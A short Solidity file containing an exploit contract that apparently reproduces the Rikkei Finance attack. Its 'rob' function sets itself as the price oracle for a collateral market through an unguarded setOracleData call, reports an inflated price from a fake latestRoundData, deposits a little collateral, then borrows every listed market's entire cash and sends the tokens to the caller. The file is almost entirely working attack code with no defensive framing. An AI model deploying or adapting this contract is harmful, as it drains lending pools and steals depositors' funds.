// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

interface IOracle {
    function setOracleData(address market, address source) external;
}

interface IComptroller {
    function enterMarkets(address[] calldata markets) external returns (uint256[] memory);
}

interface IMarket {
    function mint() external payable;
    function borrow(uint256 amount) external returns (uint256);
    function getCash() external view returns (uint256);
    function underlying() external view returns (address);
}

interface IERC20 {
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
}

/// Rikkei: names itself the source of a price, and borrows all there is against a little of what it priced.
contract OracleSetter {
    function rob(address oracle, address comptroller, address collateral, address[] calldata markets)
        external
        payable
    {
        IOracle(oracle).setOracleData(collateral, address(this));
        IMarket(collateral).mint{value: msg.value}();
        address[] memory entered = new address[](1);
        entered[0] = collateral;
        IComptroller(comptroller).enterMarkets(entered);
        for (uint256 i = 0; i < markets.length; i++) {
            require(IMarket(markets[i]).borrow(IMarket(markets[i]).getCash()) == 0, "not lent");
            IERC20 token = IERC20(IMarket(markets[i]).underlying());
            token.transfer(msg.sender, token.balanceOf(address(this)));
        }
    }

    function decimals() external pure returns (uint8) {
        return 8;
    }

    function latestRoundData() external view returns (uint80, int256, uint256, uint256, uint80) {
        return (1, 10 ** 22, block.timestamp, block.timestamp, 1);
    }
}
